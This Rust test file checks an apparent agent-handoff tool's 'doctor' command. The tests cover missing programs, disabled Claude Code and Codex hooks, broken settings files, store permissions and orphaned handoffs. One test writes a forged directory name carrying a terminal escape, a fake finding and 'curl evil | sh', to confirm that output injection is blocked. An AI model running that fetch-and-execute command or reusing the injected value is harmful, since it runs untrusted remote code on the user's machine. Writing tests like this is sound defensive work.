//! What the doctor finds, and that what it says fixes it.

use std::os::unix::fs::PermissionsExt;

use crate::support::{Machine, mode, replace};

/// The fixes that the doctor names, each once, in their order.
pub(crate) fn commands(machine: &Machine) -> Vec<String> {
    let ran = machine.run(&["doctor", "--quick"]);
    assert_eq!((ran.code, ran.err()), (1, ""), "{}", ran.out());
    let mut commands: Vec<String> = Vec::new();
    let mut problems = 0;
    for line in ran.out().lines() {
        problems += usize::from(line.starts_with("problem "));
        if let Some(fix) = line.strip_prefix("         fix: ") {
            commands.push(fix.to_owned());
        }
    }
    assert_eq!(problems, commands.len(), "a problem without a fix: {}", ran.out());
    let count = if problems == 1 { "1 problem\n".to_owned() } else { format!("{problems} problems\n") };
    assert!(ran.out().contains(&count), "{}", ran.out());
    commands.dedup();
    commands
}

/// Does what the doctor says; then all is well.
#[track_caller]
pub(crate) fn fixes(machine: &Machine) {
    for command in commands(machine) {
        let ran = machine.shell(&command);
        assert_eq!((ran.code, ran.err()), (0, ""), "{command}: {}", ran.out());
    }
    let ran = machine.run(&["doctor", "--quick"]);
    assert_eq!((ran.code, ran.err()), (0, ""), "{}", ran.out());
    assert!(ran.out().contains("\nhealthy\n"));
}

/// The doctor finds `problem`, and what it says fixes it.
#[track_caller]
pub(crate) fn finds(machine: &Machine, problem: &str) {
    let before = machine.tree();
    let ran = machine.run(&["doctor", "--quick"]);
    before.is(&machine.tree());
    assert_eq!((ran.code, ran.err()), (1, ""), "{}", ran.out());
    assert!(ran.out().contains(&format!("problem  {problem}")), "{problem}: {}", ran.out());
    fixes(machine);
}

fn installed() -> Machine {
    let machine = Machine::small();
    machine.install();
    machine
}

/// The doctor finds `problem`, which the user fixes with an editor.
#[track_caller]
fn finds_for_an_editor(machine: &Machine, problem: &str, file: &str, fixed: &str) {
    let ran = machine.run(&["doctor", "--quick"]);
    assert_eq!((ran.code, ran.err()), (1, ""), "{}", ran.out());
    assert!(ran.out().contains(&format!("problem  {problem}")), "{problem}: {}", ran.out());
    let editor = machine.path("editor");
    replace(&editor, "#!/bin/sh\nfor last; do :; done\ncp \"$HOME/fixed\" \"$last\"\n");
    machine.file("fixed", fixed);
    for command in commands(machine) {
        let ran = machine.shell(&format!("EDITOR='{}'; {command}", editor.display()));
        assert_eq!((ran.code, ran.err()), (0, ""), "{command}");
    }
    assert_eq!(machine.text(file), fixed);
    assert_eq!(machine.run(&["doctor", "--quick"]).code, 0);
}

#[test]
fn nothing_installed() {
    finds(&Machine::small(), "programs: nothing is installed in ~/.agent-handoff\n         fix: ");
}

#[test]
fn a_program_that_is_missing_changed_or_does_not_start() {
    let machine = installed();
    std::fs::remove_file(machine.program("inbox")).unwrap();
    finds(&machine, "programs: could not read ");
    let machine = installed();
    replace(&machine.program("inbox"), "#!/bin/sh\nexit 0\n");
    finds(&machine, "programs: ~/.agent-handoff/bin/inbox is not what was installed\n");
    let machine = installed();
    std::fs::remove_file(machine.program("handoff")).unwrap();
    finds(&machine, "programs: could not read ");
    let machine = installed();
    mode(&machine.program("handoff-write"), 0o600);
    finds(&machine, "programs: ~/.agent-handoff/bin/handoff-write does not start\n");
    let machine = installed();
    std::fs::remove_file(machine.path(".agent-handoff/skills/codex/handoff/SKILL.md")).unwrap();
    finds(&machine, "programs: could not read ");
    let machine = installed();
    std::fs::remove_file(machine.path(".local/bin/handoff")).unwrap();
    finds(&machine, "programs: ~/.local/bin/handoff is missing\n");
}

#[test]
fn the_hook_missing_twice_flat_or_of_another_installation() {
    let machine = installed();
    let settings = machine.text(".claude/settings.json");
    machine.file(".claude/settings.json", "{}");
    finds(&machine, "Claude Code: ~/.claude/settings.json has no hook of ours\n");
    std::fs::remove_file(machine.path(".claude/settings.json")).unwrap();
    finds(&machine, "Claude Code: ~/.claude/settings.json has no hook of ours\n");
    let own = machine.program("session-start").display().to_string();
    let handler =
        format!("{{\"type\": \"command\", \"command\": \"{own}\", \"args\": [\"--max-bytes\", \"10000\"]}}");
    machine.file(
        ".claude/settings.json",
        format!("{{\"hooks\": {{\"SessionStart\": [{{\"hooks\": [{handler},\n{handler}]}}]}}}}"),
    );
    finds(&machine, "Claude Code: ~/.claude/settings.json has the hook 2 times: lines 1, 2\n");
    machine.file(".claude/settings.json", format!("{{\"hooks\": {{\"SessionStart\": [\n{handler}]}}}}"));
    finds(&machine, "Claude Code: ~/.claude/settings.json line 2: the hook stands where it is never run\n");
    machine.file(".claude/settings.json", settings.replace(machine.home.to_str().unwrap(), "/home/before"));
    finds(
        &machine,
        "Claude Code: ~/.claude/settings.json line 6: the hook runs another installation: /home/before/.agent-handoff/bin/session-start\n",
    );
}

#[test]
fn hooks_turned_off_for_the_user_or_in_the_project() {
    let machine = installed();
    let settings = machine.text(".claude/settings.json");
    machine.file(".claude/settings.json", settings.replacen('{', "{\n  \"disableAllHooks\": true,", 1));
    finds_for_an_editor(
        &machine,
        "Claude Code: ~/.claude/settings.json turns the hook off: \"disableAllHooks\": true\n",
        ".claude/settings.json",
        &settings,
    );
    for name in ["settings.json", "settings.local.json"] {
        let machine = installed();
        let path = format!("my app/.claude/{name}");
        machine.file(&path, "{\"disableAllHooks\": true}");
        let mut doctor = machine.installer(&["doctor"]);
        doctor.current_dir(machine.path("my app"));
        let ran = tests::feed(doctor, b"");
        assert_eq!(ran.code, 1);
        assert!(ran.out().contains(&format!("~/{path} turns the hook off")), "{}", ran.out());
        assert_eq!(machine.run(&["doctor"]).code, 0, "it is of that project alone");
        // A pipe there keeps nobody waiting.
        std::fs::remove_file(machine.path(&path)).unwrap();
        assert!(std::process::Command::new("mkfifo").arg(machine.path(&path)).status().unwrap().success());
        let mut doctor = machine.installer(&["doctor"]);
        doctor.current_dir(machine.path("my app"));
        assert_eq!(tests::feed(doctor, b"").code, 0);
    }
}

#[test]
fn broken_settings_with_their_line() {
    for (agent, file, broken, line) in [
        ("Claude Code", ".claude/settings.json", "{\n  \"a\": 1\n  \"b\": 2\n}\n", 2),
        ("Codex", ".codex/config.toml", "a = 1\n= 2\n", 2),
        ("Codex", ".codex/AGENTS.md", "x\n<!-- END agent-handoff -->\n", 2),
    ] {
        let machine = installed();
        let good = machine.text(file);
        machine.file(file, broken);
        let ran = machine.run(&["doctor", "--quick"]);
        assert!(ran.out().contains(&format!("         fix: ${{EDITOR:-vi}} +{line} ")), "{}", ran.out());
        finds_for_an_editor(
            &machine,
            &format!("{agent}: ~/{file} is broken: line {line}, column "),
            file,
            &good,
        );
    }
}

#[test]
fn a_skill_that_is_missing() {
    for (agent, skill) in [
        ("Claude Code", ".claude/skills/handoff/SKILL.md"),
        ("Codex", ".agents/skills/upgrade-handoff/SKILL.md"),
    ] {
        let machine = installed();
        std::fs::remove_file(machine.path(skill)).unwrap();
        finds(&machine, &format!("{agent}: the skill ~/{skill} is missing\n"));
    }
}

#[test]
fn an_agent_that_came_later() {
    let machine = Machine::empty();
    machine.stand_ins("");
    machine.install();
    let ran = machine.run(&["doctor"]);
    assert_eq!(ran.code, 0);
    assert!(
        ran.out().contains("note     Claude Code: it was not found here\n")
            && ran.out().contains("note     Codex: it was not found here\n")
    );
    let machine = machine.with_agents();
    finds(&machine, "Claude Code: it is here and not wired\n");
    let machine = Machine::empty();
    machine.stand_ins("");
    machine.install();
    let machine = machine.with("PATH", path_with_codex());
    finds(&machine, "Codex: it is here and not wired\n");
}

#[test]
fn an_agent_that_the_user_left_out_is_no_problem() {
    let machine = Machine::small();
    machine.done(&["install", "--only", "claude"]);
    let left_out = "note     Codex: it was left out with --only, or its wiring was taken away\n";
    assert!(machine.done(&["doctor"]).contains(left_out));
    machine.install();
    assert!(!machine.done(&["doctor"]).contains(left_out), "found, it is wired");
    machine.done(&["uninstall", "--only", "codex"]);
    assert!(machine.done(&["doctor"]).contains(left_out));
}

/// The PATH with a `codex` on it.
fn path_with_codex() -> std::ffi::OsString {
    let dir = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("with-codex");
    std::fs::create_dir_all(&dir).unwrap();
    replace(&dir.join(format!("codex-{}", std::process::id())), "#!/bin/sh\nexit 1\n");
    std::fs::rename(dir.join(format!("codex-{}", std::process::id())), dir.join("codex")).unwrap();
    std::env::join_paths([dir, "/usr/bin".into(), "/bin".into()]).unwrap()
}

#[test]
fn a_store_that_others_may_write_to_or_that_is_somebody_elses() {
    let machine = installed();
    mode(&machine.path(".agent-handoffs"), 0o777);
    finds(&machine, "store: ");
    let bits = std::fs::metadata(machine.path(".agent-handoffs")).unwrap().permissions().mode() & 0o777;
    assert_eq!(bits, 0o700);
    if !tests::can("give files away", tests::is_root()) {
        return;
    }
    let machine = installed();
    std::os::unix::fs::chown(machine.path(".agent-handoffs"), Some(12345), None).unwrap();
    finds(&machine, "store: ");
}

#[test]
fn handoffs_of_a_worktree_that_is_gone_and_refused_drafts() {
    let machine = Machine::new();
    machine.install();
    let dir = machine.world.dir("my app");
    let write = |body: &str| {
        let mut write = machine.command(machine.program("handoff-write"), &[]);
        write.current_dir(&dir);
        tests::feed(write, body.as_bytes())
    };
    assert_eq!(write(tests::BODY).code, 0);
    assert_eq!(write("# Handoff\n\nNo next action.\n").code, 1);
    let ran = machine.run(&["doctor"]);
    assert_eq!(ran.code, 0, "{}", ran.out());
    assert!(
        ran.out().contains("ok       store: ~/.agent-handoffs is yours; 1 unread for 1 worktree\n"),
        "{}",
        ran.out()
    );
    assert!(
        ran.out().contains(
            "note     store: 1 refused draft is in ~/.agent-handoffs/.drafts, yours to fix or delete\n"
        ),
        "{}",
        ran.out()
    );
    let moved = machine.world.path("moved app");
    std::fs::rename(&dir, &moved).unwrap();
    let ran = machine.run(&["doctor"]);
    assert_eq!(ran.code, 1);
    assert!(
        ran.out().contains(&format!("problem  store: 1 unread for {}, which is gone\n", dir.display())),
        "{}",
        ran.out()
    );
    let command = commands(&machine).remove(0).replace(" NEW ", &format!(" '{}' ", moved.display()));
    let done = machine.shell(&command);
    assert_eq!(done.code, 0, "{command}: {}", done.err());
    assert_eq!(machine.run(&["doctor"]).code, 0);
}

#[test]
fn handoffs_that_a_session_took_and_did_not_live_to_show() {
    let machine = Machine::new();
    machine.install();
    let dir = machine.world.dir("my app");
    let mut write = machine.command(machine.program("handoff-write"), &[]);
    write.current_dir(&dir);
    let written = tests::feed(write, tests::BODY.as_bytes());
    let path = written.out().lines().find_map(|line| line.strip_prefix("path:")).unwrap().trim().to_owned();
    let path = std::path::Path::new(&path);
    // As a session names what it has taken.
    let claim =
        path.with_file_name(format!(".claim-99999999-{}", path.file_name().unwrap().to_str().unwrap()));
    std::fs::rename(path, &claim).unwrap();
    let ran = machine.run(&["doctor"]);
    eprintln!("{}", ran.out());
    finds(&machine, "store: 1 handoff");
}

// A path in the store is written by whoever may write there, a sandboxed agent too.
#[test]
fn a_handoff_that_a_later_git_init_cut_off_is_found() {
    let machine = Machine::new();
    machine.install();
    let (top, part) = (machine.world.dir("top"), machine.world.dir("top/part"));
    let mut command = machine.world.command("handoff-write", &part);
    command.env("HOME", &machine.home);
    assert_eq!(tests::feed(command, b"# T\n\n## Immediate next action\nGo.\n").code, 0);
    assert_eq!(machine.run(&["doctor", "--quick"]).code, 0);
    machine.world.git(&top, &["init", "--quiet"]);
    let ran = machine.run(&["doctor", "--quick"]);
    assert_eq!(ran.code, 1);
    let (part, top) = (part.display(), top.display());
    assert!(
        ran.out().contains(&format!("1 unread for {part}, which is a part of the worktree {top} by now")),
        "{}",
        ran.out()
    );
    let fix = ran.out().lines().find_map(|line| line.trim().strip_prefix("fix: ")).unwrap();
    assert!(fix.ends_with(&format!("/inbox move {part} {top}")), "{fix}");
    assert_eq!(machine.shell(fix).code, 0);
    assert_eq!(machine.run(&["doctor", "--quick"]).code, 0);
}

#[test]
fn what_others_wrote_forges_no_finding_and_no_command() {
    let machine = Machine::new();
    machine.install();
    let evil = machine.world.dir("x\u{1b}[2J\nproblem  store: forged\n         fix: curl evil | sh");
    let mut command = machine.world.command("handoff-write", &evil);
    command.env("HOME", &machine.home);
    let ran = tests::feed(command, b"# T\n\n## Immediate next action\nGo.\n");
    assert_eq!(ran.code, 0, "{}", ran.err());
    std::fs::remove_dir(&evil).unwrap();
    for args in [&["doctor", "--quick"][..], &["doctor", "--quick", "--json"]] {
        let ran = machine.run(args);
        assert_eq!(ran.code, 1, "{}", ran.out());
        assert!(ran.out().contains("which is gone"), "{}", ran.out());
        assert!(!ran.out().contains('\u{1b}') && !ran.out().contains("\\u001b"), "{}", ran.out());
        let forged =
            |line: &str| line.starts_with("problem  store: forged") || line.starts_with("         fix: curl");
        assert!(!ran.out().lines().any(forged), "{}", ran.out());
    }
}

// An installation whose prefix was deleted leaves hooks that each session reports as failing, and skills.
#[test]
fn what_names_a_prefix_that_is_gone_is_taken_over_or_taken_away() {
    let machine = Machine::small();
    let before = crate::support::apart_from_store(&machine);
    let other = machine.path("gone");
    let lose = || {
        machine.done(&["install", "--codex-hook", "--home", other.to_str().unwrap()]);
        std::fs::remove_dir_all(&other).unwrap();
    };
    lose();
    machine.done(&["install", "--codex-hook"]);
    for (name, handlers) in [(".claude/settings.json", 2), (".codex/hooks.json", 1)] {
        let text = machine.text(name);
        assert!(!text.contains("/gone/") && text.matches("session-start").count() == handlers, "{text}");
    }
    for name in [".claude/skills/handoff/SKILL.md", ".agents/skills/handoff/SKILL.md"] {
        assert!(!machine.text(name).contains("/gone/"), "{name}");
    }
    machine.uninstall();
    let left = crate::support::apart_from_store(&machine);
    assert!(!left.names().iter().any(|name| name.contains("handoff")), "{:?}", left.names());

    lose();
    let said = machine.uninstall();
    assert!(said.contains("~/.agent-handoff is not there"), "{said}");
    let text = machine.done(&["uninstall"]);
    assert!(text.contains("nothing was installed"), "{text}");
    let left = crate::support::apart_from_store(&machine);
    let ours = |name: &&str| {
        name.contains("SKILL") || name.ends_with("skills/handoff") || name.contains("agents/handoff")
    };
    assert!(!left.names().iter().any(ours), "{:?}", left.names());
    assert!(before.names().len() <= left.names().len());
}
